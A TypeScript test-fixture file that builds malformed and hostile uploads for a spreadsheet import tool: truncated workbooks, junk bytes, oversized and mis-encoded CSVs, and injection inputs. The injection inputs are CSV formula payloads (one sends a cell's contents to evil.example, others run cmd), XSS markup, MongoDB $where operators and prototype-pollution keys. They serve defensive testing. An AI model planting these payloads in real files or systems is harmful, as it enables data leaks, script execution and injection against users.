/**
 * The malformed and hostile files of the proof, each built the way it arrives in practice: a
 * workbook cut off in transfer, random bytes, a file over the upload limit, text in an encoding
 * Zhili does not read, spreadsheet formulas meant to run when someone opens the report, markup
 * in a unit name, and headers that name MongoDB operators or JavaScript prototype keys.
 */
import ExcelJS from 'exceljs';

/** A real workbook (the template's Data sheet with three communities) cut to `fraction` of its bytes. */
export async function truncatedXlsx(fraction: number): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('数据 Data');
  sheet.addRow(['unit_code', 'households', 'households_in_grids']);
  for (const code of ['C1', 'C2', 'C3']) sheet.addRow([code, 120, 100]);
  const whole = Buffer.from(await workbook.xlsx.writeBuffer());
  return whole.subarray(0, Math.floor(whole.length * fraction));
}

/** Deterministic pseudo-random bytes (xorshift32), with NULs and high bytes in them. */
export function binaryJunk(length: number, seed = 0x9e3779b9): Buffer {
  const bytes = Buffer.alloc(length);
  let state = seed >>> 0;
  for (let i = 0; i < length; i += 1) {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    state >>>= 0;
    bytes[i] = state & 0xff;
  }
  return bytes;
}

/** A syntactically fine observations CSV of `megabytes` MiB (above the 32 MiB limit at 50). */
export function hugeCsv(megabytes: number): Buffer {
  const line = 'C1,120,100\r\n';
  const header = 'unit_code,households,households_in_grids\r\n';
  const count = Math.ceil((megabytes * 1024 * 1024 - header.length) / line.length);
  return Buffer.from(header + line.repeat(count));
}

/** "Community café" in Latin-1: é is 0xE9, then a comma: valid neither as UTF-8 nor as GB18030. */
export const latin1Csv = Buffer.from('code,name,level\r\nC9,Caf\xe9,community\r\n', 'latin1');

/** Half-width katakana in Shift-JIS (ｱｲｳ = B1 B2 B3), then a comma: not GB18030 either. */
export const shiftJisCsv = Buffer.concat([
  Buffer.from('code,name,level\r\nC9,'),
  Buffer.from([0xb1, 0xb2, 0xb3]),
  Buffer.from(',community\r\n'),
]);

/** Excel's "Unicode text" without its byte-order mark. */
export const utf16WithoutMark = Buffer.from('单位代码,名称,层级\r\nC9,新社区,社区\r\n', 'utf16le');

/** The classic CSV-injection payloads, as cells of numeric columns. */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
] as const;

function csvCell(text: string): string {
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** Observations with a formula payload in each variable cell of row 2 and row 3. */
export function formulaObservationsCsv(): Buffer {
  const [a, b, c, d] = FORMULA_PAYLOADS.map(csvCell);
  return Buffer.from(
    ['unit_code,households,households_in_grids,grid_workers', `C1,${a},${b},3`, `C2,120,${c},${d}`, ''].join(
      '\r\n',
    ),
  );
}

/** A unit register whose Chinese name is a HYPERLINK formula. */
export const formulaUnitsCsv = Buffer.from(
  `code,name,level,parent\r\nC9,${csvCell(FORMULA_PAYLOADS[0])},社区,D1\r\n`,
);

export const SCRIPT_NAME = '<script>alert(1)</script>';

/** A good unit register row whose names are markup. */
export function scriptUnitCsv(code: string): Buffer {
  return Buffer.from(
    `code,name,name_en,level,parent\r\n${code},${SCRIPT_NAME},<img src=x onerror=alert(1)>,社区,D1\r\n`,
  );
}

/** A refused register with markup where the report echoes it: a column header and a bad level. */
export const scriptInReportCsv = Buffer.from(
  `code,name,level,parent,${SCRIPT_NAME}\r\nC9,好社区,${SCRIPT_NAME},D1,x\r\n`,
);

/** Only hostile headers: MongoDB operators and prototype keys, and data under them. */
export const hostileHeadersCsv = Buffer.from(
  '$where,__proto__,constructor,prototype,$gt\r\nsleep(5000),"{""polluted"":1}",x,y,1\r\n',
);

/** A good JSON register whose rows also carry hostile keys. */
export const hostileKeysJson = Buffer.from(
  JSON.stringify([
    { code: 'J1', name: '甲社区', level: '社区', parent: 'D1', $where: 'sleep(5000)' },
  ]).replace('}]', ',"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}]'),
);
